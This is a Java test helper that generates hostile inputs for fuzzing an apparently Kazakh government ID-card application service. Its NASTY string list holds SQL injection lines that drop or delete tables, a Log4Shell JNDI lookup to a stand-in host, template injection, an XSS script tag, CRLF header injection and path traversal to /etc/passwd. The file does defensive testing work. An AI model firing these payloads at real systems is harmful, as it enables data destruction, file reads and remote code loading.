package kz.egov.idcard.security;

import java.math.BigDecimal;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.RandomGenerator;

/**
 * Hostile input for the fuzzing tests, drawn from jqwik's generators with one seeded
 * {@link Random} so that a failing run can be replayed ({@code -Dfuzz.seed=…}).
 */
final class Hostile {

    /** Strings attackers and broken clients send. */
    static final List<String> NASTY = List.of(
            "", " ", "null", "undefined", "true", "0", "-1", "-0", "1e309", "NaN", "Infinity", "9223372036854775808",
            "99999999999999999999999999999999", "0x7fffffff", "1.0000000000000000000000001",
            "' OR '1'='1", "1; DROP TABLE application;--", "'); DELETE FROM audit_event; --", "\\\"", "\"}", "{\"$gt\": \"\"}",
            "${jndi:ldap://evil.example/a}", "#{7*7}", "{{7*7}}", "<script>alert(1)</script>", "../../../../etc/passwd",
            "..%2F..%2Fetc%2Fpasswd", "%00", "\u0000", "\u0000' OR 1=1", "\r\nSet-Cookie: x=1", "\u202eevil", "\uFEFFBOM",
            "\uD800", "\uDFFF\uD800", "😀🇰🇿", "Қазақстан", "Ω≈ç√∫", "𝕏𝕐", "ＡＳＴ－０１",
            "2026-02-30", "2026-13-01", "0000-00-00", "9999-12-31", "-999999999-01-01", "+1000000-01-01", "2026-11-28T25:61:61Z",
            "00000000-0000-0000-0000-000000000000", "ffffffff-ffff-ffff-ffff-ffffffffffff", "not-a-uuid",
            "000000000000", "999999999999", "12345678901", "1234567890123", "+77011234567", "+7701123456700000000",
            "AST-01", "STANDARD", "URGENT", "EXPEDITED", "MOBILE", "WEB", "EDS", "SMS", "DEVICE", "SUBMITTED", "ISSUED",
            "REJECTED", "IN_PRODUCTION", "READY_FOR_PICKUP", "kk", "ru", "en", "*", "en;q=abc", "xx-YY,zz;q=2");

    private final Random random;

    Hostile(long seed) {
        this.random = new Random(seed);
    }

    <T> T draw(Arbitrary<T> arbitrary) {
        RandomGenerator<T> generator = arbitrary.generator(1000, true);
        return generator.next(random).value();
    }

    int below(int bound) {
        return random.nextInt(bound);
    }

    boolean chance(double p) {
        return random.nextDouble() < p;
    }

    <T> T pick(List<T> values) {
        return values.get(random.nextInt(values.size()));
    }

    /** A hostile string: a known nasty one, any unicode (control characters included), or a huge one. */
    String string() {
        int kind = below(10);
        if (kind < 5) {
            return pick(NASTY);
        }
        if (kind < 9) {
            return draw(Arbitraries.strings().all().ofMaxLength(80));
        }
        return draw(Arbitraries.strings().withChars("A0'\"\\<{[ёқ😀").ofMinLength(5_000).ofMaxLength(70_000));
    }

    /** Any JSON value, of any type, sometimes huge or deeply nested. */
    Object value(int depth) {
        int kind = below(depth > 3 ? 6 : 9);
        return switch (kind) {
            case 0 -> null;
            case 1 -> random.nextBoolean();
            case 2 -> draw(Arbitraries.longs());
            case 3 -> pick(List.of(new BigDecimal("1e400"), new BigDecimal("-0.000000000000000000001"), new BigDecimal("3372.005"),
                    new BigDecimal("-3372"), new BigDecimal("99999999999999999999.99"), BigDecimal.ZERO));
            case 4, 5 -> string();
            case 6 -> {
                int size = chance(0.1) ? 20_000 : below(5);
                List<Object> list = new ArrayList<>(size);
                for (int i = 0; i < size; i++) {
                    list.add(size > 100 ? "x" : value(depth + 1));
                }
                yield list;
            }
            default -> {
                Map<String, Object> map = new LinkedHashMap<>();
                for (int i = below(5); i > 0; i--) {
                    map.put(chance(0.5) ? string() : pick(List.of("status", "amount", "iin", "id", "applicationId", "pointId")),
                            value(depth + 1));
                }
                yield map;
            }
        };
    }
}
